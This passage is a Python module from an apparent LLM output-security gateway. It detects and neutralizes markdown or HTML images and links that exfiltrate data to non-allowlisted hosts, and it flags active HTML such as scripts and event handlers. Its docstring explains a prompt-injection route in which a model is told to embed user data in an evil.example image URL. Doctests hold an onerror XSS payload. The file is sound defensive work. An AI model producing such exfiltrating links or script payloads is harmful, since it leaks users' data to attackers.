"""Unsafe model output (OWASP LLM05): links and images that carry data out, and active HTML.

A model that has read attacker-controlled text (a web page, a document, a tool result) can
be told to write ``![](https://evil.example/p.png?q=<the user's data>)``. A markdown client
fetches the image as soon as it renders the answer, without a click: the data is gone before
anyone reads it. Links need a click but carry data the same way. So, for hosts that are not
in the route's allowlist (`HostAllowlist`: exact names and ``*.example.com``):

- every image is neutralized, whatever its URL, because the fetch itself leaks and a path of
  plain words is data too: markdown images, inline or reference-style (``![x][r]`` with
  ``[r]: url``), and HTML elements that fetch on render (``<img src>``, ``srcset``,
  ``<video poster>``, CSS ``url()`` in a ``style`` attribute);
- a link is neutralized when its URL carries data (or always, with ``all_links``): markdown
  links, reference-style links and definitions, ``<a href>``, ``<https://...>`` autolinks,
  and bare URLs, which GFM renderers turn into links. A URL carries data when it has
  userinfo, a query or a fragment, when it is over 256 characters long, or when its path
  and subdomains hold more than 16 characters of pieces that are not words (``aGVsbG8``,
  hex, numbers of five digits or more, ``hunter2``; ``/2024/05/release-notes`` holds
  none). That is a heuristic: data spelled as plain words passes, and a link with a commit
  hash or a UUID is neutralized; strict routes set ``all_links``, others allowlist the
  hosts they link to. A reference definition is neutralized when its URL carries data or
  an image uses it.

Hosts are read as browsers read them (``\\`` is ``/``, userinfo ends at the last ``@``,
percent-encoding, NFKC and ideographic dots folded, markdown escapes and HTML character
references undone first), and an unreadable host is never allowlisted: every mistake errs
towards neutralizing. Neutralizing replaces an image by its alt text (or ``[image
removed]``), a link by its text, a bare URL or autolink by ``[link removed]``, a reference
definition or an ``<a>`` start tag by nothing; a construct nested in another is neutralized
inside the outer one's replacement.

`find_active_html` flags what runs or embeds when a client renders the output as HTML:
``<script>``, event-handler attributes, ``javascript:`` (and ``vbscript:``, HTML or SVG
``data:``) URLs, ``<iframe>``, ``<object>``, ``<embed>``, ``<form>``, ``<base>``,
``<meta>``, ``<link>``, ``<style>`` and ``srcdoc``; `escape_html` is for routes whose client
renders HTML.

The functions here are pure, total (any string, no exception) and linear in the text:
regular expressions without ambiguous repetition, a bracket stack capped at 64, and at most
one scan per construct. `StreamScanner`, one per response, runs the same detectors over a
streamed response, and holds back what they have not settled yet.
"""

from __future__ import annotations

import html
import re
from bisect import bisect_right
from collections import deque
from collections.abc import Iterable
from dataclasses import dataclass, field, replace
from itertools import accumulate
from urllib.parse import unquote

from wardgate.decision import Edit, Evidence, Finding, Location
from wardgate.detect.attacks.ssrf import fold, percent_decoded
from wardgate.detect.leakage import (
    DEFAULT_MIN_CHARS,
    CanaryPattern,
    PromptIndex,
    Span,
    VerbatimStream,
)

__all__ = [
    "ACTIVE_HTML",
    "DEFAULT_WINDOW",
    "EXFILTRATION",
    "IMAGE_REMOVED",
    "LEAKAGE",
    "LINK_REMOVED",
    "HostAllowlist",
    "OutputFinding",
    "ScanStep",
    "StreamScanner",
    "edits",
    "escape_html",
    "find_active_html",
    "find_exfiltration",
    "neutralize",
    "url_host",
]

EXFILTRATION = "output.exfiltration"
ACTIVE_HTML = "output.active_html"
LEAKAGE = "output.leakage"
DEFAULT_WINDOW = 2048

IMAGE_REMOVED = "[image removed]"
LINK_REMOVED = "[link removed]"
_REMOVED = "[content removed]"
_MIN_WINDOW = 256
_MAX_DEPTH = 64
_DATA_CHARS = 17
_MAX_URL = 256
_MAX_HOST = 253
_NETWORK_SCHEMES = frozenset({"http", "https", "ftp", "ws", "wss"})
_SCRIPT_SCHEMES = (
    "javascript:",
    "vbscript:",
    "livescript:",
    "data:text/html",
    "data:application/xhtml",
    "data:image/svg",
)
_EMBEDDING = frozenset(
    {"iframe", "frame", "frameset", "object", "embed", "applet", "portal", "base", "form",
     "meta", "link", "style"}
)  # fmt: skip
_FETCH_ATTRS = frozenset(
    {"src", "srcset", "imagesrcset", "poster", "background", "lowsrc", "dynsrc", "data",
     "xlink:href"}
)  # fmt: skip
_URL_ATTRS = _FETCH_ATTRS | {"href", "action", "formaction"}

_BRACKET = re.compile(r"\\[!-/:-@\[-`{-~]|!\[|\[|\]|\n[ \t]*\n")
_DESTINATION = re.compile(
    r"\(\s*(?:<(?P<pointy>(?:[^<>\n\\]|\\.)*)>"
    r"|(?P<plain>(?:[^\s()<>\\]|\\.|\((?:[^\s()<>\\]|\\.)*\))*))"
    r"(?:\s+(?:\"(?:[^\"\\]|\\.)*\"|'(?:[^'\\]|\\.)*'|\((?:[^()\\]|\\.)*\)))?\s*\)"
)
# Every prefix of what _DESTINATION matches, up to the end of the text: an inline link's
# destination that more text could still complete.
_DESTINATION_OPEN = re.compile(
    r"\(\s*(?:<(?:[^<>\n\\]|\\.)*\\?"
    r"|(?:<(?:[^<>\n\\]|\\.)*>|(?:[^\s()<>\\]|\\.|\((?:[^\s()<>\\]|\\.)*\))*)"
    r"(?:\\|\((?:[^\s()<>\\]|\\.)*\\?"
    r"|\s+(?:\"(?:[^\"\\]|\\.)*\\?|'(?:[^'\\]|\\.)*\\?|\((?:[^()\\]|\\.)*\\?"
    r"|(?:\"(?:[^\"\\]|\\.)*\"|'(?:[^'\\]|\\.)*'|\((?:[^()\\]|\\.)*\))\s*)?)?)\Z"
)
_LABEL = re.compile(r"\[((?:[^\[\]\\]|\\.){0,999})\]")
_LABEL_OPEN = re.compile(r"\[(?:[^\[\]\\]|\\.){0,999}\\?\Z")
_DEFINITION = re.compile(
    r"[ ]{0,3}\[((?:[^\[\]\\\n]|\\.){1,999})\]:[ \t]*\n?[ \t]*"
    r"(?:<((?:[^<>\n\\]|\\.)*)>|((?:[^\s\\]|\\.)+))[^\n]*"
)
_DEFINITION_OPEN = re.compile(
    r"[ ]{0,3}(?:\[(?:[^\[\]\\\n]|\\.){0,999}\\?(?:\]:?[ \t]*\n?[ \t]*)?)?\Z"
)
_LINE_START = re.compile(r"\n(?=[ ]{0,3}\[)")
_TAG = re.compile(r"<([a-zA-Z][a-zA-Z0-9-]*)(?=[\s/>]|\Z)((?:\"[^\"]*\"|'[^']*'|[^\"'<>])*)(>?)")
_ATTR = re.compile(r"([^\s\"'<>/=]+)(?:\s*=\s*(?:\"([^\"]*)\"|'([^']*)'|([^\s\"'=<>`]+)))?")
_CSS_URL = re.compile(r"url\(\s*[\"']?([^\"')\s]+)", re.I)
_AUTOLINK = re.compile(r"<([a-zA-Z][a-zA-Z0-9+.-]{1,31}:[^\s<>]*)>")
_LT_OPEN = re.compile(r"<(?:[a-zA-Z][a-zA-Z0-9+.-]{0,31}(?::[^\s<>]*)?)?\Z")
_URL_RUN = re.compile(r"[^\s<>]*")
_ASCII_ALNUM = re.compile(r"[a-zA-Z0-9]")
_BARE_OPEN = re.compile(
    r"(?<![a-zA-Z0-9])(?:h(?:t(?:t(?:p(?:s?(?::/?)?)?)?)?)?|f(?:t(?:p(?::/?)?)?)?|w(?:w(?:w)?)?)\Z",
    re.I,
)
_TRAILING_ENTITY = re.compile(r"&[a-zA-Z0-9]+;\Z")
_MD_ESCAPE = re.compile(r"\\([!-/:-@\[-`{-~])")
_SCHEME = re.compile(r"([a-zA-Z][a-zA-Z0-9+.-]*):")
_AUTHORITY_END = re.compile(r"[/\\?#]")
_PIECE = re.compile(r"[^\W_]+")
_CAMEL = re.compile(r"[a-z]+(?:[A-Z][a-z]+)+|(?:[A-Z][a-z]+){2,}")
_C0_AND_SPACE = "".join(map(chr, range(0x21)))


@dataclass(frozen=True, slots=True)
class HostAllowlist:
    """Hosts that may receive images and links: exact names and ``*.`` suffixes.

    ``*.example.com`` allows every subdomain of example.com but not example.com itself;
    ``example.com`` allows that name only. Names compare case-insensitively, without a
    trailing dot, and in their IDNA (punycode) form.
    """

    exact: frozenset[str] = frozenset()
    suffixes: frozenset[str] = frozenset()

    @classmethod
    def of(cls, patterns: Iterable[str]) -> HostAllowlist:
        """Compile ``patterns``; raise `ValueError` naming a malformed one."""
        exact: set[str] = set()
        suffixes: set[str] = set()
        for pattern in patterns:
            wildcard = pattern.startswith("*.")
            name = _host_form(pattern[2:] if wildcard else pattern)
            if not name or any(c in name for c in "*/:@?#\\") or any(c.isspace() for c in name):
                raise ValueError(
                    f"invalid host pattern {pattern!r}: write 'example.com' or '*.example.com'"
                )
            (suffixes if wildcard else exact).add(name)
        return cls(frozenset(exact), frozenset(suffixes))

    def allows(self, host: str) -> bool:
        """Whether ``host`` (as `url_host` returns it) is allowlisted; never a name longer
        than DNS allows."""
        if len(host) > _MAX_HOST:
            return False
        host = _host_form(host)
        if host in self.exact:
            return True
        labels = host.split(".")
        return any(".".join(labels[i:]) in self.suffixes for i in range(1, len(labels)))


@dataclass(frozen=True, slots=True)
class OutputFinding:
    """One unsafe construct in an output: ``text[start:end]``.

    ``kind`` is `EXFILTRATION`, `ACTIVE_HTML` or (from a `StreamScanner`) `LEAKAGE`;
    ``rule`` names the construct (``markdown_image``, ``markdown_link``, ``reference_image``,
    ``reference_link``, ``reference_definition``, ``html_image``, ``html_link``,
    ``autolink``, ``bare_url``; ``script_tag``, ``event_handler``, ``javascript_url``,
    ``embedded_content``; ``canary``, ``verbatim``). ``host`` is where the URL leads.
    ``replacement`` is the harmless form `neutralize` writes instead (None: there is none,
    and the only remedy is to block). Evidence is a length and hash, never the text.
    """

    kind: str
    rule: str
    start: int
    end: int
    host: str = ""
    replacement: str | None = None
    evidence: Evidence | None = None

    def finding(self, slot: str, severity: str = "high") -> Finding:
        """This finding as a decision `Finding` located in ``slot``."""
        reason = f"{self.rule} to {self.host}" if self.host else self.rule
        return Finding(
            kind=self.kind,
            rule=self.rule,
            severity=severity,
            location=Location(slot, self.start, self.end),
            evidence=self.evidence,
            reason=reason,
        )


def find_exfiltration(
    text: str, allowed_hosts: HostAllowlist | Iterable[str] = (), *, all_links: bool = False
) -> list[OutputFinding]:
    """Images to hosts not in ``allowed_hosts``, and links to them that carry data.

    Findings are sorted by start; a nested one (an image inside a link) is reported too, and
    the outer one's replacement already neutralizes it.

    >>> [f.rule for f in find_exfiltration("![a](https://evil.example/p.png)", ["cdn.example"])]
    ['markdown_image']
    """
    allow = _allowlist(allowed_hosts)
    return _scan(text, True, _Refs(), allow, all_links, exfil=True, active=False).findings


def find_active_html(text: str) -> list[OutputFinding]:
    """Script, event handlers, script URLs and embedding elements: what runs when rendered.

    >>> [f.rule for f in find_active_html('<img src=x onerror="alert(1)">')]
    ['event_handler']
    """
    return _scan(text, True, _Refs(), HostAllowlist(), False, exfil=False, active=True).findings


def neutralize(text: str, findings: Iterable[OutputFinding]) -> str:
    """``text`` with every finding that has a replacement replaced by it.

    Findings nested in another are covered by the outer replacement; two that overlap
    without nesting are replaced together by ``[content removed]``.
    """
    out: list[str] = []
    pos = 0
    for start, end, replacement in _regions(findings, 0, len(text)):
        out += (text[pos:start], replacement)
        pos = end
    out.append(text[pos:])
    return "".join(out)


def edits(findings: Iterable[OutputFinding], slot: str) -> list[Edit]:
    """The non-overlapping `Edit`s that `neutralize` would make, for a provider adapter."""
    return [Edit(slot, s, e, r) for s, e, r in _regions(findings, 0, None)]


def escape_html(text: str) -> str:
    """``text`` with ``& < > " '`` as character references: inert in any HTML context."""
    return html.escape(text, quote=True)


def url_host(url: str) -> str | None:
    """The host a browser would contact for ``url``, lower-cased; None when it contacts none.

    Relative URLs (the page's own host) and non-network schemes (``mailto:``, ``data:``,
    ``javascript:``) have none. Scheme-relative ``//host`` and ``\\\\host`` have one.

    >>> url_host("HTTPS://user@Evil.Example.:8080\\\\@allowed.example/x")
    'evil.example'
    """
    url = url.replace("\t", "").replace("\n", "").replace("\r", "").strip(_C0_AND_SPACE)
    scheme = _SCHEME.match(url)
    if scheme:
        if scheme.group(1).lower() not in _NETWORK_SCHEMES:
            return None
        rest = url[scheme.end() :]
    elif len(url) >= 2 and url[0] in "/\\" and url[1] in "/\\":
        rest = url
    else:
        return None
    authority = _AUTHORITY_END.split(rest.lstrip("/\\"), maxsplit=1)[0]
    host = authority.rpartition("@")[2]
    host = host[1:].partition("]")[0] if host.startswith("[") else host.partition(":")[0]
    host = fold(percent_decoded(host)).lower().rstrip(".")
    return host or None


@dataclass(slots=True)
class _Refs:
    """Reference definitions seen (label -> URL) and labels that images used."""

    urls: dict[str, str] = field(default_factory=dict)
    image_labels: set[str] = field(default_factory=set)


@dataclass(slots=True)
class _Hit:
    kind: str
    rule: str
    start: int
    end: int
    host: str = ""
    fallback: str = ""
    inner: tuple[int, int] | None = None
    image: bool = False


@dataclass(slots=True)
class _Scan:
    findings: list[OutputFinding]
    opens: dict[str, int]


_PASSES = ("definitions", "links", "tags", "urls")


def _scan(
    text: str,
    final: bool,
    refs: _Refs,
    allow: HostAllowlist,
    all_links: bool,
    *,
    exfil: bool,
    active: bool,
    starts: dict[str, int] | None = None,
) -> _Scan:
    """Judge every construct of ``text``, each pass from its start in ``starts`` (0 if None).

    ``opens`` holds, per pass, the earliest construct that more text could still complete
    or change; it is empty when ``final``.
    """
    at = starts or dict.fromkeys(_PASSES, 0)
    opens: dict[str, list[int]] = {name: [] for name in _PASSES}
    hits: list[_Hit] = []
    spans: list[tuple[int, int]] = []
    definitions = _definitions(text, at["definitions"], final, refs, opens["definitions"])
    links = _links(text, at["links"], final, refs, definitions, opens["links"])
    for start, end, label, url in definitions:
        spans.append((start, end))
        host = _foreign_host(url, allow) if exfil else None
        if host and (all_links or label in refs.image_labels or _carries_data(url)):
            hits.append(_Hit(EXFILTRATION, "reference_definition", start, end, host))
    for link in links:
        spans.append((link.start, link.end))
        hits += _link_hits(link, allow, all_links, exfil, active)
    _tags(text, at["tags"], final, allow, all_links, exfil, active, hits, spans, opens["tags"])
    if exfil:
        _bare_urls(text, at["urls"], final, allow, all_links, hits, spans, opens["urls"])
    return _Scan(_findings(text, hits), {name: min(o) for name, o in opens.items() if o})


def _link_hits(
    link: _Link, allow: HostAllowlist, all_links: bool, exfil: bool, active: bool
) -> list[_Hit]:
    hits = []
    url = _decoded(link.url)
    if active and not link.image and _runs_script(url):
        hits.append(
            _Hit(ACTIVE_HTML, "javascript_url", link.start, link.end, fallback=LINK_REMOVED)
        )
        hits[-1].inner = link.inner
    host = _foreign_host(url, allow) if exfil else None
    if host and (link.image or all_links or _carries_data(url)):
        shape = "image" if link.image else "link"
        rule = f"reference_{shape}" if link.reference else f"markdown_{shape}"
        fallback = IMAGE_REMOVED if link.image else LINK_REMOVED
        hits.append(_Hit(EXFILTRATION, rule, link.start, link.end, host, fallback, link.inner))
        hits[-1].image = link.image
    return hits


def _definitions(
    text: str, lo: int, final: bool, refs: _Refs, opens: list[int]
) -> list[tuple[int, int, str, str]]:
    """Reference definitions (``[label]: url`` at the start of a line), remembered in refs."""
    found: list[tuple[int, int, str, str]] = []
    lines = [lo] if lo == 0 or text[lo - 1] == "\n" else []
    lines += [newline.end() for newline in _LINE_START.finditer(text, lo)]
    after = lo
    for line in lines:
        match = _DEFINITION.match(text, line) if line >= after else None
        if match is None:
            continue
        if match.end() == len(text) and not final:
            opens.append(line)
            continue
        label = _label_key(match.group(1))
        url = match.group(2) if match.group(2) is not None else match.group(3)
        if len(refs.urls) < 1024:
            refs.urls.setdefault(label, url)
        found.append((match.start(), match.end(), label, _decoded(url)))
        after = match.end()
    last_line = text.rfind("\n") + 1
    if not final and last_line >= after and _DEFINITION_OPEN.match(text, last_line):
        opens.append(last_line)
    return found


@dataclass(slots=True)
class _Link:
    start: int
    end: int
    url: str
    inner: tuple[int, int]
    image: bool
    reference: bool


def _links(
    text: str,
    lo: int,
    final: bool,
    refs: _Refs,
    definitions: list[tuple[int, int, str, str]],
    opens: list[int],
) -> list[_Link]:
    """Markdown links and images, inline and by reference, found with a bracket stack."""
    links: list[_Link] = []
    stack: list[tuple[int, bool]] = []
    skip = iter(definitions)
    skip_span = next(skip, None)
    resume = lo
    for token in _BRACKET.finditer(text, lo):
        at = token.start()
        while skip_span is not None and skip_span[1] <= at:
            skip_span = next(skip, None)
        if at < resume or (skip_span is not None and skip_span[0] <= at):
            continue
        kind = token.group()
        if kind[0] == "\\":
            continue
        if kind[0] == "\n":
            stack.clear()
            continue
        if kind != "]":
            stack.append((at, kind == "!["))
            if len(stack) > _MAX_DEPTH:
                del stack[0]
            continue
        if not stack:
            continue
        start, image = stack.pop()
        inner = (start + 1 + image, at)
        after = at + 1
        follower = text[after : after + 1]
        if not follower and not final:
            opens.append(start)
            break
        if follower == "(":
            dest = _DESTINATION.match(text, after)
            if dest:
                url = dest.group("pointy") if dest.group("pointy") is not None else dest["plain"]
                links.append(_Link(start, dest.end(), url, inner, image, False))
                resume = dest.end()
            elif not final and _DESTINATION_OPEN.match(text, after):
                opens.append(start)
            continue
        if follower == ":":
            continue
        label = text[inner[0] : inner[1]]
        end = after
        if follower == "[":
            ref = _LABEL.match(text, after)
            if ref is None:
                if not final and _LABEL_OPEN.match(text, after):
                    opens.append(start)
                continue
            label, end = ref.group(1) or label, ref.end()
        key = _label_key(label)
        url = refs.urls.get(key)
        if url is not None:
            links.append(_Link(start, end, url, inner, image, True))
            resume = end
        elif image and len(refs.image_labels) < 1024:
            refs.image_labels.add(key)
    if not final:
        opens.extend(start for start, _ in stack)
        if text.endswith("!"):
            opens.append(len(text) - 1)
    return links


def _tags(
    text: str,
    lo: int,
    final: bool,
    allow: HostAllowlist,
    all_links: bool,
    exfil: bool,
    active: bool,
    hits: list[_Hit],
    spans: list[tuple[int, int]],
    opens: list[int],
) -> None:
    """HTML start tags (fetching, linking or active) and ``<scheme:...>`` autolinks."""
    for tag in _TAG.finditer(text, lo):
        start, end = tag.span()
        if not tag.group(3) and not final and (end == len(text) or text[end] in "\"'"):
            opens.append(start)
            continue
        if tag.group(3):
            # A tag never closed is text to a Markdown or HTML renderer (raw HTML needs its
            # `>`), so it hides no URL that follows it; it is still judged as a tag below.
            spans.append((start, end))
        name = tag.group(1).lower()
        attrs = {
            a.group(1).lower(): html.unescape(a.group(2) or a.group(3) or a.group(4) or "")
            for a in _ATTR.finditer(tag.group(2))
        }
        if exfil:
            hit = _tag_exfiltration(name, attrs, allow, all_links, start, end)
            if hit:
                hits.append(hit)
        rule = _active_rule(name, attrs) if active else None
        if rule:
            fallback = html.escape(text[start:end], quote=False)
            hits.append(_Hit(ACTIVE_HTML, rule, start, end, fallback=fallback))
    for auto in _AUTOLINK.finditer(text, lo):
        spans.append(auto.span())
        url = _decoded(auto.group(1))
        host = _foreign_host(url, allow) if exfil else None
        if host and (all_links or _carries_data(url)):
            hits.append(_Hit(EXFILTRATION, "autolink", *auto.span(), host, LINK_REMOVED))
    last = text.rfind("<", lo)
    if not final and last >= 0 and _LT_OPEN.match(text, last):
        opens.append(last)


def _tag_exfiltration(
    name: str, attrs: dict[str, str], allow: HostAllowlist, all_links: bool, start: int, end: int
) -> _Hit | None:
    if name in ("a", "area"):
        url = attrs.get("href", "")
        host = _foreign_host(url, allow)
        if host and (all_links or _carries_data(url)):
            return _Hit(EXFILTRATION, "html_link", start, end, host)
        return None
    for key, value in attrs.items():
        if key in _FETCH_ATTRS or key == "href":
            urls = value.replace(",", " ").split() if key.endswith("srcset") else [value]
        elif key == "style":
            urls = _CSS_URL.findall(value)
        else:
            continue
        for url in urls:
            host = _foreign_host(url, allow)
            if host:
                alt = html.escape(attrs.get("alt", "").strip(), quote=False)
                return _Hit(EXFILTRATION, "html_image", start, end, host, alt or IMAGE_REMOVED)
    return None


def _active_rule(name: str, attrs: dict[str, str]) -> str | None:
    if name == "script":
        return "script_tag"
    if any(key.startswith("on") and len(key) > 2 for key in attrs):
        return "event_handler"
    if any(key in _URL_ATTRS and _runs_script(value) for key, value in attrs.items()):
        return "javascript_url"
    if name in _EMBEDDING or "srcdoc" in attrs:
        return "embedded_content"
    return None


def _bare_urls(
    text: str,
    lo: int,
    final: bool,
    allow: HostAllowlist,
    all_links: bool,
    hits: list[_Hit],
    spans: list[tuple[int, int]],
    opens: list[int],
) -> None:
    """URLs in running text, as GFM autolinks them; not those inside another construct."""
    spans.sort()
    starts = [s for s, _ in spans]
    reach = list(accumulate((e for _, e in spans), max))
    start: int | None = _next_url(text, lo)
    while start is not None:
        run = _URL_RUN.match(text, start)
        assert run is not None
        if not final and run.end() == len(text):
            opens.append(start)
            if run.end() - start <= _MAX_URL:
                break  # judged once it ends, or once it is long enough to carry data anyway
        url = _trimmed(run.group())
        end = start + len(url)
        inside = bisect_right(starts, start) - 1
        if not (inside >= 0 and reach[inside] >= end):
            absolute = _decoded(url if url[:1] not in "wW" else "http://" + url)
            host = _foreign_host(absolute, allow)
            if host and (all_links or _carries_data(absolute)):
                hits.append(_Hit(EXFILTRATION, "bare_url", start, end, host, LINK_REMOVED))
        start = _next_url(text, max(run.end(), start + 1))
    if not final:
        prefix = _BARE_OPEN.search(text, max(lo, len(text) - 8))
        if prefix:
            opens.append(prefix.start())


def _next_url(text: str, pos: int) -> int | None:
    """Where the next ``http://``, ``https://``, ``ftp://`` (any case) or ``www.`` begins a
    word, from ``pos``: `str.find` costs a tenth of a case-insensitive regular expression."""
    starts = []
    for needle in ("www.", "WWW."):
        at = text.find(needle, pos)
        while at > 0 and _ASCII_ALNUM.match(text, at - 1):
            at = text.find(needle, at + 1)
        if at >= 0:
            starts.append(at)
    colon = text.find("://", pos)
    while colon >= 0:
        scheme = _scheme_start(text, colon)
        if scheme is not None and not (scheme and _ASCII_ALNUM.match(text, scheme - 1)):
            starts.append(scheme)
            break
        colon = text.find("://", colon + 1)
    return min(starts, default=None)


def _scheme_start(text: str, colon: int) -> int | None:
    for scheme in ("https", "http", "ftp"):
        start = colon - len(scheme)
        if start >= 0 and text[start:colon].lower() == scheme:
            return start
    return None


def _trimmed(url: str) -> str:
    """A bare URL without the trailing punctuation GFM leaves out of the link."""
    while True:
        before = url
        url = url.rstrip("?!.,:*_~'\"")
        while url.endswith(")") and url.count(")") > url.count("("):
            url = url[:-1]
        entity = _TRAILING_ENTITY.search(url)
        if entity:
            url = url[: entity.start()]
        if url == before:
            return url


def _findings(text: str, hits: list[_Hit]) -> list[OutputFinding]:
    """Findings with replacements, inner ones first so that outer ones can include them."""
    order = sorted(range(len(hits)), key=lambda i: (hits[i].start, -hits[i].end))
    children: dict[int, list[int]] = {i: [] for i in order}
    stack: list[int] = []
    for i in order:
        while stack and hits[stack[-1]].end < hits[i].end:
            stack.pop()
        if stack:
            children[stack[-1]].append(i)
        stack.append(i)
    replacements: dict[int, str] = {}
    for i in reversed(order):
        hit = hits[i]
        replacement = hit.fallback
        if hit.inner is not None:
            lo, hi = hit.inner
            inside = [
                (hits[c].start, hits[c].end, replacements[c])
                for c in children[i]
                if lo <= hits[c].start and hits[c].end <= hi
            ]
            shown = _spliced(text, lo, hi, inside)
            if hit.image:
                shown = shown.replace("<", "&lt;")
            replacement = shown if shown.strip() else hit.fallback
        replacements[i] = replacement
    return [
        OutputFinding(
            kind=hits[i].kind,
            rule=hits[i].rule,
            start=hits[i].start,
            end=hits[i].end,
            host=hits[i].host,
            replacement=replacements[i],
            evidence=Evidence.of(text[hits[i].start : hits[i].end]),
        )
        for i in order
    ]


def _spliced(text: str, lo: int, hi: int, regions: list[tuple[int, int, str]]) -> str:
    out: list[str] = []
    pos = lo
    for start, end, replacement in _merged(sorted(regions, key=lambda r: (r[0], -r[1]))):
        out += (text[pos:start], replacement)
        pos = end
    out.append(text[pos:hi])
    return "".join(out)


def _regions(
    findings: Iterable[OutputFinding], lo: int, hi: int | None
) -> list[tuple[int, int, str]]:
    """The outermost replaceable findings within ``[lo, hi)``, merged where they overlap."""
    chosen = [
        (f.start, f.end, f.replacement)
        for f in findings
        if f.replacement is not None and lo <= f.start and (hi is None or f.end <= hi)
    ]
    return _merged(sorted(chosen, key=lambda r: (r[0], -r[1])))


def _merged(regions: list[tuple[int, int, str]]) -> list[tuple[int, int, str]]:
    """Regions sorted by (start, -end): nested ones dropped, partial overlaps joined."""
    merged: list[tuple[int, int, str]] = []
    for start, end, replacement in regions:
        if merged and start < merged[-1][1]:
            if end > merged[-1][1]:
                merged[-1] = (merged[-1][0], end, _REMOVED)
            continue
        merged.append((start, end, replacement))
    return merged


def _foreign_host(url: str, allow: HostAllowlist) -> str | None:
    """The host ``url`` leads to when it is not allowlisted, else None."""
    host = url_host(url)
    return host if host is not None and not allow.allows(host) else None


def _carries_data(url: str) -> bool:
    """Over 256 characters, userinfo, a query, a fragment, or over 16 characters of pieces
    that are not words in the path and subdomains."""
    scheme = _SCHEME.match(url)
    rest = (url[scheme.end() :] if scheme else url).lstrip("/\\")
    cut = _AUTHORITY_END.search(rest)
    authority, tail = (rest[: cut.start()], rest[cut.start() :]) if cut else (rest, "")
    path, _, query = tail.partition("?")
    path, _, fragment = path.partition("#")
    if len(url) > _MAX_URL or "@" in authority or query.strip() or fragment.strip():
        return True
    subdomains = ".".join(authority.partition(":")[0].split(".")[:-2])
    decoded = unquote(path, errors="surrogateescape")
    raw_bytes = sum(1 for c in decoded if "\udc80" <= c <= "\udcff")
    return _non_word_chars(subdomains + "/" + decoded) + raw_bytes >= _DATA_CHARS


def _non_word_chars(text: str) -> int:
    """How many characters of ``text`` are in pieces that are not words (up to 17)."""
    count = 0
    for piece in _PIECE.findall(text):
        if not _wordlike(piece):
            count += len(piece)
            if count >= _DATA_CHARS:
                break
    return count


def _wordlike(piece: str) -> bool:
    if piece.isdigit():
        return len(piece) <= 4
    if not piece.isalpha():
        return False
    if not piece.isascii():
        return True
    return (
        piece.islower()
        or piece.istitle()
        or (piece.isupper() and len(piece) <= 5)
        or _CAMEL.fullmatch(piece) is not None
    )


def _runs_script(url: str) -> bool:
    squeezed = "".join(c for c in url if c > " " and c != "\x7f").lower()
    return squeezed.startswith(_SCRIPT_SCHEMES)


def _decoded(url: str) -> str:
    """A markdown URL as renderers pass it on: backslash escapes and references undone."""
    if "\\" in url:
        url = _MD_ESCAPE.sub(r"\1", url)
    return html.unescape(url) if "&" in url else url


def _label_key(label: str) -> str:
    return " ".join(label.split()).casefold()


def _host_form(host: str) -> str:
    host = fold(host.strip()).lower().rstrip(".")
    if host.isascii():
        return host
    try:
        return host.encode("idna").decode("ascii")
    except UnicodeError:
        return host


def _allowlist(allowed: HostAllowlist | Iterable[str]) -> HostAllowlist:
    return allowed if isinstance(allowed, HostAllowlist) else HostAllowlist.of(allowed)


@dataclass(frozen=True, slots=True)
class ScanStep:
    """What a `StreamScanner` decided after one delta (or at the end of the stream).

    ``text`` is what may be sent to the client now: the output's characters ``start`` to
    ``start + releasable``, with replaceable findings replaced when the scanner neutralizes.
    ``violations`` are the findings first seen in this step, with offsets in the whole
    output; each is reported once. ``leaked`` is set when one of them began before
    ``start``: part of it already reached the client.
    """

    text: str
    start: int
    releasable: int
    violations: tuple[OutputFinding, ...] = ()
    leaked: bool = False


class StreamScanner:
    """The output detectors over a streamed response: one object per response, fed deltas.

    It keeps the last ``window`` (W) characters and scans only what a delta can have
    completed: the delta itself and any construct still open before it (an ``![`` or
    ``[..](`` whose URL is not closed, a ``<tag`` without its ``>``, a definition line not
    ended, a bare URL at the very end, a possible canary prefix, a verbatim run in
    progress), each detector from its own oldest open construct. It finds exfiltration
    (always), active HTML (``active_html``), the ``canary`` and verbatim spans of
    ``system_prompt`` when given.

    ``hold_back`` (H) = 0 releases every character at once and only reports. H > 0 keeps
    back the newest H characters and every open construct that starts within the window,
    and never releases, in the step that reports a violation, the violation or anything
    after it, unless the scanner was built to ``neutralize`` and the violation has a
    replacement, which is then released in its place (so neutralizing needs H > 0).
    `finish` releases the rest on the same terms: with H > 0, the text from a violation
    found at the very end on is never released.

    Guarantees, for a violation ``[s, e)`` made detectable by the character at d (a
    closing ``)``, ``]`` or ``>``, the character after a reference's ``]``, the newline
    ending a definition, the space or ``<`` ending a bare URL (or its 257th character: a
    URL that long is judged at once), the canary's last character, the character after the
    word that brings a verbatim run to ``min_chars``), when ``d - s < W``:

    - it is reported, once, in the step whose delta holds d, whatever H, with its rule,
      host and offsets in the whole output (``leaked`` says whether H let part of it out);
    - with H >= 1, no character of it is in the ``text`` of that step or of an earlier one,
      since its first character opened a construct; a verbatim run is only held once
      ``min_words`` of its words match, so it needs H above the length of its first
      ``min_words`` words. Hence a caller that sends each step's text and ends the stream
      at the first violation sends none of it; with H = 0 it cuts the stream right after;
    - no character is held once W newer characters have arrived: a longer construct is
      released (and caught, but not held). Reference labels longer than 999 characters,
      and brackets nested more than 64 deep, are not held either.

    Reference definitions and the labels images used are remembered for the whole stream
    (up to 1,024 of each), so a reference is resolved whatever the distance. Per delta, the
    work is linear in the delta plus the oldest open construct: tens of microseconds for
    20-character deltas (`test_stream_cost_report`), at worst a scan of the window.
    """

    def __init__(
        self,
        *,
        allowed_hosts: HostAllowlist | Iterable[str] = (),
        all_links: bool = False,
        active_html: bool = False,
        canary: str | None = None,
        system_prompt: str | PromptIndex | None = None,
        min_chars: int = DEFAULT_MIN_CHARS,
        hold_back: int = 0,
        window: int = DEFAULT_WINDOW,
        neutralize: bool = False,
    ) -> None:
        if window < _MIN_WINDOW or not 0 <= hold_back <= window:
            raise ValueError(f"need window >= {_MIN_WINDOW} and 0 <= hold_back <= window")
        self._allow = _allowlist(allowed_hosts)
        self._all_links = all_links
        self._active = active_html
        self._canary = CanaryPattern.of(canary) if canary else None
        index = (
            PromptIndex.build(system_prompt) if isinstance(system_prompt, str) else system_prompt
        )
        self._verbatim = VerbatimStream(index, min_chars=min_chars) if index else None
        self._hold = hold_back
        self._window = window
        self._neutralize = neutralize
        self._refs = _Refs()
        self._text = ""
        self._base = 0
        self._released = 0
        self._scan_from = dict.fromkeys(_PASSES, 0)
        self._live: dict[tuple[str, int], OutputFinding] = {}
        self._reported: set[tuple[str, int]] = set()
        self._last: dict[str, Span] = {}
        self._recent: deque[Span] = deque(maxlen=16)
        self._finished = False

    def feed(self, delta: str) -> ScanStep:
